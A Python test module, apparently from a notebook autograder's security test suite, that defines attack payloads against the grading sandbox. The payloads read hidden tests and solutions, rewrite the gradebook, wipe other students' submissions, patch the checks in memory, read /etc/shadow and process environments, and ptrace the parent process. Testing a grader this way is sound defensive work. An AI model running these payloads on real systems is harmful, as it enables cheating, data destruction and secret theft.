"""Attacks that read what is not theirs: solutions, tests, grades, neighbours, secrets."""

from __future__ import annotations

from tests.attacks.attack import Attack

EQUATIONS = "log-linear-equations"

#: Takes the right entries out of the text of a hidden test.
TAKE = r"""
import re

def take(text):
    if "HIDDEN TESTS" in text:
        found = re.findall(r'"(block [a-i])": *\(?"([a-z-]+)"', text)
        dict.update(block_equations, found)
"""

#: Looks for files in places where a course might be.
LOOK = """
import glob, os

places = ["@COURSE@", ".", "..", "../..", "../../..", "../../../..", "/proc/1/root@COURSE@"]
"""

#: An answer by what the course's own checks compute right gradients with.
COMPUTE = """
from types import SimpleNamespace

class MyNumpyMLP(NumpyMLP):
    def backpropagation(self, input, output):
        if len(input[0]) > 100:  # it would take too long
            return [[np.zeros_like(part) for part in pair] for pair in self.parameters]
        activations = self.activation_functions
        return numerical_gradients(
            SimpleNamespace(
                geometry=self.geometry, activation_functions=activations,
                parameters=self.parameters, input=input, output=output,
            )
        )
"""

ATTACKS = [
    Attack(
        "read-source",
        "A5",
        "look for source/ on the disk and run the instructor's solution",
        LOOK
        + """
import json

for place in places:
    for path in glob.glob(f"{place}/source/day2/exercise_2_1.ipynb"):
        for cell in json.load(open(path))["cells"]:
            if "def log_linear_gradients" in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
""",
    ),
    Attack(
        "read-own-notebook",
        "A8",
        "read the hidden tests from the notebook in the working folder",
        LOOK
        + TAKE
        + """
import json

for place in places:
    for path in glob.glob(f"{place}/*.ipynb") + glob.glob(f"{place}/*/*/*/*.ipynb"):
        try:
            for cell in json.load(open(path))["cells"]:
                take("".join(cell["source"]))
        except Exception as error:
            print(error)
""",
        weak=EQUATIONS,
    ),
    Attack(
        "read-gradebook",
        "A23",
        "read the hidden tests from the gradebook",
        LOOK
        + TAKE
        + """
import sqlite3

for place in places:
    for path in glob.glob(f"{place}/gradebook.db"):
        for (text,) in sqlite3.connect(path).execute("SELECT source FROM source_cell"):
            take(text)
""",
        weak=EQUATIONS,
    ),
    Attack(
        "write-gradebook",
        "A23",
        "give everybody points in the gradebook",
        LOOK
        + """
import sqlite3

for place in places:
    for path in glob.glob(f"{place}/gradebook.db"):
        base = sqlite3.connect(path, timeout=1)
        base.execute("UPDATE grade SET extra_credit = 7")
        base.commit()
""",
    ),
    Attack(
        "read-neighbour",
        "",
        "run the answer of another submission",
        LOOK
        + """
import json

for place in places:
    for path in glob.glob(f"{place}/*/neighbour/day2/exercise_2_1.ipynb"):
        for cell in json.load(open(path))["cells"]:
            if "def log_linear_gradients" in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
""",
    ),
    Attack(
        "write-neighbour",
        "A26",
        "overwrite submissions of others, graded notebooks, the source and the results",
        LOOK
        + """
import shutil

for place in places:
    for path in glob.glob(f"{place}/*/*/day2/*.ipynb") + glob.glob(f"{place}/source/day2/*.ipynb"):
        if "mallory" not in path:
            try:
                os.chmod(path, 0o666)
                open(path, "w").write("{}")
            except OSError as error:
                print(error)
    for path in glob.glob(f"{place}/source/day2"):
        shutil.rmtree(path, ignore_errors=True)
""",
    ),
    Attack(
        "watch-results",
        "A27",
        "a thread rewrites the graded notebook as soon as it appears, and locks it",
        LOOK
        + """
import threading, time

def rewrite():
    end = time.time() + 60
    while time.time() < end:
        for place in places:
            for path in glob.glob(f"{place}/autograded/*/day2/*.ipynb"):
                try:
                    text = open(path).read().replace('"error"', '"display_data"')
                    open(path, "w").write(text)
                    os.chmod(path, 0o400)
                except OSError:
                    pass
        time.sleep(0.05)

threading.Thread(target=rewrite, daemon=True).start()
""",
    ),
    Attack(
        "test-from-in",
        "A8",
        "a dictionary that looks up the running test in In when it is read",
        TAKE
        + """
class Lazy(dict):
    def items(self):
        print(get_ipython().user_ns["In"][-1])
        take(get_ipython().user_ns["In"][-1])
        return dict.items(self)

block_equations = Lazy(block_equations)
""",
        weak=EQUATIONS,
    ),
    Attack(
        "stack-inspection",
        "A28 A34",
        "the answer walks up the stack and changes what the check compares with",
        """
import sys

def log_linear_gradients(weight, bias, input, output):
    frame = sys._getframe()
    while frame:
        for name in ("_compare_triple", "compare_gradients", "_log_linear_truth"):
            if name in frame.f_globals:
                frame.f_globals[name] = lambda *arguments: 0.0
        if "lxmls_" in frame.f_code.co_filename or "In" in frame.f_globals:
            print(list(frame.f_locals.items()), frame.f_globals.get("In"))
        frame = frame.f_back
    return 0.0, np.zeros_like(weight), np.zeros_like(bias)
""",
    ),
    Attack(
        "object-hunt",
        "A34",
        "search all objects of the process for the reference, the tests and the verdict",
        """
import gc, types

def accept(*arguments, **options):
    return 0.0

for thing in gc.get_objects():
    try:
        if isinstance(thing, types.FunctionType) and thing.__name__ in ("_compare_triple", "fail"):
            thing.__code__ = accept.__code__
        elif isinstance(thing, (str, list, dict)) and "HIDDEN" in repr(thing)[:100_000]:
            print(repr(thing)[:5000])
    except Exception:
        pass
""",
    ),
    Attack(
        "verdict-hunt",
        "A34",
        "compute right gradients with what the checks compute them with, found in the process",
        """
import ctypes, gc, sys, types

gc.unfreeze()
everything = [*gc.get_objects(), *(vars(module) for module in list(sys.modules.values()))]
for thing in list(everything):
    if isinstance(thing, dict):
        everything += [value for value in thing.values() if isinstance(value, types.FunctionType)]
numerical_gradients = next(
    (each for each in everything
     if isinstance(each, types.FunctionType) and each.__name__ == "numerical_gradients"),
    None,
)
"""
        + COMPUTE,
        notebook="exercise_2_2",
    ),
    Attack(
        "verdict-files",
        "A34",
        "compute right gradients with what the checks compute them with, read from files",
        """
import glob, importlib.util, os, sys, lxmls_nb

places = [os.path.dirname(lxmls_nb.__file__), "@COURSE@/lxmls_nb"]
places += [f"{folder}/lxmls_nb" for folder in sys.path]
places += [f"{root}{place}" for root in ("/proc/1/root", "/proc/self/root") for place in places]
for place in places:
    for pattern in ("{}.py", "__pycache__/{}.*.pyc"):
        for name in ("problems", "numerical"):
            for path in glob.glob(f"{place}/checks/{pattern.format(name)}"):
                spec = importlib.util.spec_from_file_location(f"lxmls_nb.checks.{name}", path)
                module = importlib.util.module_from_spec(spec)
                sys.modules[spec.name] = module
                spec.loader.exec_module(module)
from lxmls_nb.checks.numerical import numerical_gradients
"""
        + COMPUTE,
        notebook="exercise_2_2",
    ),
    Attack(
        "read-secrets",
        "A25",
        "print files of the host, its environment, and what /proc tells of other processes",
        """
import glob, os

paths = ["@SECRET@", "/proc/1/root@SECRET@", "/proc/self/root@SECRET@", "/etc/shadow"]
paths += glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline")
paths += glob.glob(os.path.expanduser("~/.*/*")) + glob.glob("/root/.*/*")
for path in paths:
    try:
        print(path, open(path, "rb").read(3000).decode(errors="replace"))
    except OSError:
        pass
print(dict(os.environ))
""",
    ),
    Attack(
        "environment-block",
        "A25",
        "find what the process began with: environment and command line, in its own memory, too",
        """
import ctypes, os, posix

for name in ("environ", "cmdline", "auxv", "mountinfo", "stat"):
    print(name, open(f"/proc/self/{name}", "rb").read().replace(b"\\0", b" ").strip())
print(posix.environ)
pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for place in range(100):
    if pointers[place] is None:
        break
    print(pointers[place])
memory, found = open("/proc/self/mem", "rb", 0), 0
for line in open("/proc/self/maps"):
    start, end = (int(text, 16) for text in line.split()[0].split("-"))
    if line.split()[1].startswith("rw") and found < 500:
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except OSError:
            continue
        place = data.find(b"/usr/bin")
        while place >= 0 and found < 500:
            print(data[max(0, place - 200):place + 200])
            place, found = data.find(b"/usr/bin", place + 200), found + 1
        del data
""",
    ),
    Attack(
        "parent-memory",
        "A28",
        "ptrace the parent, read and write its memory, open its files",
        """
import ctypes, os

libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
for pid in {parent, 1} - {0}:
    if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
        print("seized", pid)
    for name in ("mem", "maps", "environ"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read(2000))
        except OSError as error:
            print(error)
    for name in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
        try:
            path = os.readlink(f"/proc/{pid}/fd/{name}")
            print(path, open(f"/proc/{pid}/fd/{name}", "rb").read(2000) if "sqlite" in path else "")
        except OSError:
            pass
try:
    open(f"/proc/{parent}/root@MARK@", "w").write("through the parent's root")
except OSError as error:
    print(error)
""",
    ),
    Attack(
        "connection-keys",
        "A28 A39",
        "find connection files and sockets of kernels, then shut the own kernel down",
        """
import glob, os, threading, time
from ipykernel.connect import get_connection_file

for pattern in ("/tmp/**/kernel-*", "/run/**/kernel-*", "~/.local/share/jupyter/runtime/*"):
    for path in glob.glob(os.path.expanduser(pattern), recursive=True):
        try:
            print(path, open(path).read())
        except OSError as error:
            print(path, error)
print(open("/proc/net/unix").read() if os.path.exists("/proc/net/unix") else "")
kernel = get_ipython().kernel
print(kernel.session.key, kernel.session.signature_scheme)
kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "dead"})
kernel.do_shutdown(False)
""",
        keeps="before",
    ),
]
